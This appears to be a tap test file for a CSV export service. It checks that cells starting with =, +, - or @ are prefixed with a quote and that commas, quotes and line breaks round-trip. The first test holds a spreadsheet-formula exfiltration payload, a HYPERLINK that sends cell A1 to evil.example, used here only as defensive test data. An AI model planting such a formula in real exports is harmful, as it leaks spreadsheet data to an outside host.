import { parse } from 'csv-parse/sync';
import t from 'tap';
import { csvCell, csvLines } from '../../services/export/csv.js';

/**
 * The CSV of every export (docs/security.md#exports): text that a spreadsheet would run as a formula is defused, and
 * the file reads back cell for cell with a CSV reader.
 */
t.test('csv exports › formulas are defused', async (t) => {
  const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  const text = csvLines([[evil, '+1', '-2', '@SUM(A1)', 'plain', 3]]);
  const [row] = parse(text) as string[][];
  t.same(
    row,
    [`'${evil}`, "'+1", "'-2", "'@SUM(A1)", 'plain', '3'],
    'a cell starting with =, +, - or @ gets a leading quote mark; other cells are as given',
  );
});

t.test('csv exports › reads back', async (t) => {
  const rows = [
    ['keyword', 'title', 'position'],
    ['coffee, black', 'He said "hi"\nthen left', 1],
    ['tea', null, undefined],
  ];
  const text = csvLines(rows);
  t.ok(text.endsWith('\n'), 'every line ends with a newline');
  t.same(
    parse(text),
    [
      ['keyword', 'title', 'position'],
      ['coffee, black', 'He said "hi"\nthen left', '1'],
      ['tea', '', ''],
    ],
    'commas, quotes and line breaks survive; a missing value is an empty cell',
  );
  t.equal(csvLines([]), '', 'no rows: an empty file');
  t.equal(csvCell('a,b'), '"a,b"', 'one cell as csvLines writes it');
  t.equal(csvCell('=1+1'), "'=1+1", 'defused as well');
  t.equal(csvCell(null), '', 'nothing is an empty cell');
  t.equal(`${csvCell('x')},${csvCell(2)}\n`, csvLines([['x', 2]]), 'cells joined by hand make the same line');
});
